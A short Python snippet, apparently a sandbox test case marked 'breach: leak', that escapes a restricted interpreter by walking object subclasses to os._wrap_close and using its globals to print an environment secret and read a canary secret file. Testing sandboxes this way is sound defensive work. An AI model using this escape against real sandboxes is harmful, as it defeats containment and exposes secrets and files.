# Class walk to os._wrap_close.
# breach: leak
s = ().__class__.__base__.__subclasses__()
c = [x for x in s if x.__name__ == '_wrap_close'][0]
class O: pass
o = O()
g = c.__init__.__globals__
o.environ = g['environ']; o.open = g['open']; o.read = g['read']
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
